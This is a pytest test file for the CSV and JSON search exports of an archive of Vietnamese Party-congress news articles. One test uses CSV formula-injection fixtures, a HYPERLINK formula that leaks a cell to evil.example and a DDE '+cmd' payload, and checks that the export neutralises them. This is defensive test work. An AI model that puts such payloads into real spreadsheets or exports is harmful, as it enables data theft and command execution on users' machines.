"""CSV and JSON exports of a result set: the same parameters as the search
page, capped and saying so, safe to open in a spreadsheet, and loaded in a
fixed number of queries."""

import csv
import datetime as dt
import io
import json

import pytest

from archive.models import Article, Congress, CongressMention, Document, Organ, Province
from archive.text import slugify_vi
from search import exports, indexing
from tests.conftest import damage_index_reads

pytestmark = pytest.mark.django_db


def make_articles(count: int, *, province: str = "kien-giang", title: str = "Đại hội Đảng bộ xã") -> list[Article]:
    """Articles with everything an export shows: an organ, authors, a congress and a document each."""
    place = Province.objects.get(slug=province)
    organ = Organ.for_kind("ban_tuyen_giao", place)
    congress, _created = Congress.objects.get_or_create(
        level="provincial", organisation=f"Đảng bộ tỉnh {place.short_name}", number=11
    )
    document, _created = Document.objects.get_or_create(number="35-CT/TW")
    articles = []
    for n in range(count):
        article = Article.objects.create(
            title=f"{title} {n + 1}",
            body="Đại hội đại biểu Đảng bộ diễn ra trong không khí dân chủ.",
            province=place,
            organ=organ,
            authors="Trần Văn Phúc, Thu Hà",
            published_date=dt.date(2020, 1, 1) + dt.timedelta(days=n),
            published_precision="day",
            source_url=f"https://example.vn/{slugify_vi(title)}-{province}-{n}",
        )
        CongressMention.objects.create(article=article, congress=congress, surface="Đại hội XI")
        article.documents.add(document)
        articles.append(article)
    indexing.drain()
    return articles


def rows(response) -> list[dict]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with it
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_it_exports_the_search_as_csv_in_the_search_order(client):
    make_articles(3)
    Article.objects.create(title="Tin thể thao", body="Giải bóng đá.")
    indexing.drain()
    response = client.get("/tim-kiem/xuat.csv", {"q": "đại hội", "sort": "date"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tim-kiem-dai-hoi-')
    assert response["X-Archive-Total"] == "3" and response["X-Archive-Truncated"] == "false"
    exported = rows(response)
    assert list(exported[0]) == list(exports.COLUMNS)
    assert [row["title"] for row in exported] == [
        "Đại hội Đảng bộ xã 3",
        "Đại hội Đảng bộ xã 2",
        "Đại hội Đảng bộ xã 1",
    ]
    first = exported[0]
    article = Article.objects.get(title="Đại hội Đảng bộ xã 3")
    assert first["permalink"] == f"http://testserver/bai/{article.pk}/"
    assert first["date"] == "2020-01-03" and first["date_precision"] == "day"
    assert first["province"] == "Kiên Giang" and first["province_since_2025"] == "An Giang"
    assert first["organ"] == "Ban Tuyên giáo Tỉnh ủy Kiên Giang"
    assert first["authors"] == "Trần Văn Phúc; Thu Hà"
    assert first["congresses"].startswith("Đại hội Đảng bộ tỉnh Kiên Giang lần thứ XI")
    assert first["documents"] == "35-CT/TW"
    assert first["source_url"] == "https://example.vn/dai-hoi-dang-bo-xa-kien-giang-2"


def test_a_date_is_exported_as_far_as_it_is_known():
    article = Article(published_date=dt.date(2020, 7, 1), published_precision="month")
    assert exports.dated(article) == "2020-07"
    article.published_precision = "year"
    assert exports.dated(article) == "2020"
    assert exports.dated(Article()) is None


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(client):
    Article.objects.create(
        title='=HYPERLINK("https://evil.example/?leak="&A1,"Đại hội")',
        body="Đại hội.",
        authors="+cmd|' /C calc'!A0, @SUM(1+1), -2+3, \tTAB",
    )
    Article.objects.create(title="Đại hội -2 đơn vị", body="Đại hội.")  # a dash inside a cell is harmless
    indexing.drain()
    exported = {row["id"]: row for row in rows(client.get("/tim-kiem/xuat.csv", {"q": "đại hội"}))}
    hostile = exported[str(Article.objects.get(title__startswith="=").pk)]
    assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Đại hội")'
    # Several authors share a cell, which begins with the first one.
    assert hostile["authors"].startswith("'+cmd|")
    assert exports.neutralised("@SUM(1+1)") == "'@SUM(1+1)"
    assert exports.neutralised("-2+3") == "'-2+3"
    assert exports.neutralised("\tTAB") == "'\tTAB"
    assert exports.neutralised("\r=1") == "'\r=1"
    assert exports.neutralised(12) == 12
    harmless = exported[str(Article.objects.get(title__startswith="Đại hội -2").pk)]
    assert harmless["title"] == "Đại hội -2 đơn vị"


def test_the_json_export_says_what_was_searched_and_how_much_was_left_out(client, monkeypatch):
    make_articles(5)
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    response = client.get("/tim-kiem/xuat.json", {"province": "kien-giang", "year": "2020"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="tim-kiem-kien-giang-2020-')
    data = json.loads(response.content)
    assert (data["total"], data["exported"], data["limit"], data["truncated"]) == (5, 2, 2, True)
    assert data["query"]["province"] == ["kien-giang"] and data["query"]["year"] == [2020]
    assert data["query"]["sort"] == "date"  # without words, newest first
    assert "Kiên Giang" in data["query"]["description"] and "2020" in data["query"]["description"]
    assert [article["title"] for article in data["articles"]] == ["Đại hội Đảng bộ xã 5", "Đại hội Đảng bộ xã 4"]
    first = data["articles"][0]
    assert first["province"] == {"slug": "kien-giang", "name": "Kiên Giang"}
    assert first["authors"] == ["Trần Văn Phúc", "Thu Hà"]
    assert first["documents"] == ["35-CT/TW"] and first["congresses"][0]["name"].startswith("Đại hội Đảng bộ tỉnh")
    assert first["date"] == "2020-01-05"


def test_the_csv_cap_is_said_in_headers_and_on_the_results_page(client, monkeypatch):
    make_articles(5)
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    response = client.get("/tim-kiem/xuat.csv", {"q": "đại hội"})
    assert len(rows(response)) == 2
    assert (response["X-Archive-Total"], response["X-Archive-Exported"], response["X-Archive-Truncated"]) == (
        "5",
        "2",
        "true",
    )
    page = client.get("/en/tim-kiem/", {"q": "đại hội"}).content.decode()
    assert "first 2 of 5" in page


def test_the_results_page_links_to_exports_and_the_feed_with_its_parameters(client):
    make_articles(2)
    content = client.get("/en/tim-kiem/", {"q": "đại hội", "province": "kien-giang", "page": "1"}).content.decode()
    query = "?q=%C4%91%E1%BA%A1i+h%E1%BB%99i&amp;province=kien-giang"
    assert f'href="/en/tim-kiem/xuat.csv{query}"' in content
    assert f'href="/en/tim-kiem/xuat.json{query}"' in content
    assert f'href="/en/tim-kiem/atom{query}"' in content
    assert "first 1,000" not in content  # not capped


def test_bad_parameters_and_unknown_formats(client):
    response = client.get("/tim-kiem/xuat.csv", {"province": "nowhere"})
    assert response.status_code == 400 and "nowhere" in response.content.decode()
    assert response["Cache-Control"] == "no-store"
    assert client.get("/tim-kiem/xuat.xml").status_code == 404


def test_an_unreadable_index_is_a_503_and_listings_still_export(client, monkeypatch):
    make_articles(1)
    damage_index_reads(monkeypatch, OSError("damaged segment"))
    response = client.get("/tim-kiem/xuat.json", {"q": "đại hội"})
    assert response.status_code == 503 and response["Cache-Control"] == "no-store"
    assert json.loads(client.get("/tim-kiem/xuat.json", {"province": "kien-giang"}).content)["exported"] == 1


@pytest.mark.parametrize("parameters", [{"q": "đại hội"}, {"province": ["kien-giang", "nghe-an"]}])
@pytest.mark.parametrize("export_format", exports.FORMATS)
def test_an_export_takes_as_many_queries_for_many_articles_as_for_few(
    client, django_assert_max_num_queries, parameters, export_format
):
    # The check of the province parameter, the ids (and their count when
    # capped), the articles with province and organ, one query each for
    # successors, documents and congresses, and the province's name for the
    # JSON's description; from the index, no ids query.
    bound = 8
    make_articles(2)
    with django_assert_max_num_queries(bound):
        few = client.get(f"/tim-kiem/xuat.{export_format}", parameters)
    make_articles(30, province="nghe-an")
    with django_assert_max_num_queries(bound):
        many = client.get(f"/tim-kiem/xuat.{export_format}", parameters)
    assert few.status_code == many.status_code == 200
    assert int(many["X-Archive-Exported"]) == int(few["X-Archive-Exported"]) + 30


def test_the_cache_policy_is_revalidate(client):
    make_articles(1)
    assert client.get("/tim-kiem/xuat.csv", {"q": "đại hội"})["Cache-Control"] == "no-cache"
